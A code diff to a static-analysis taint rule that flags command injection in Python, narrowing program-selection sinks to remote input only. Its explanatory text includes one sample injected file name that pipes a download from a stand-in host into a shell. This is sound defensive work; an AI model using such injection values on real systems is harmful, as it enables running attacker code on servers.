@@ -32,7 +32,7 @@ export default createTaintRule({
     },
     docs: {
       whatItDoes:
-        'Follows attacker-controlled data (request data, route parameters, `input()`, `sys.argv`, socket reads) to command lines run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`, paramiko `exec_command`) to the command line a list hands to a shell (`["sh", "-c", line]`), and to the program chosen by `subprocess.*` with a list (also a list bound to a name or built with `+`), `os.exec*`, `os.spawn*` and `asyncio.create_subprocess_exec`. Values quoted with `shlex.quote()`, converted to numbers or checked against an allow-list are not flagged; extra list items passed to a program without a shell are arguments, not code, and are not flagged.',
+        'Follows attacker-controlled data (request data, route parameters, `input()`, `sys.argv`, socket reads) to command lines run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`, paramiko `exec_command`) to the command line a list hands to a shell (`["sh", "-c", line]`), and to the program chosen by `subprocess.*` with a list (also a list bound to a name or built with `+`) when remote data chooses it (which program a CLI runs, e.g. from `sys.argv`, is up to its user), `os.exec*`, `os.spawn*` and `asyncio.create_subprocess_exec`. Values quoted with `shlex.quote()`, converted to numbers or checked against an allow-list are not flagged; extra list items passed to a program without a shell are arguments, not code, and are not flagged.',
       whyBad:
         'A shell interprets `;`, `&&`, `|`, backticks and `$(...)`: a file name such as `x; curl evil.sh | sh` runs the attacker\'s commands with the server\'s permissions. Choosing the program itself from input is as bad.',
       example:
@@ -80,12 +80,13 @@ export default createTaintRule({
       // its first item, the program, is not. Reported at the call when the program is tainted.
       const first = program.type === 'identifier' || program.type === 'binary_operator' ? firstItem(ctx, program) : undefined;
       if (first === null || (first && !isTainted(ctx, first, 'command'))) return out;
-      out.push({ node: program, sink: `${name}() program` });
+      // Which program a CLI runs is its user's choice (`os.execv(sys.executable, [sys.executable] + sys.argv)`).
+      out.push({ node: program, sink: `${name}() program`, remoteOnly: true });
       return out;
     }
     if (name && PROGRAM_ARG[name] !== undefined) {
       const program = argument(call, PROGRAM_ARG[name] ?? 0);
-      if (program) out.push({ node: program, sink: `${name}()` });
+      if (program) out.push({ node: program, sink: `${name}()`, remoteOnly: true });
       return out;
     }
     const fn = call.childForFieldName('function');
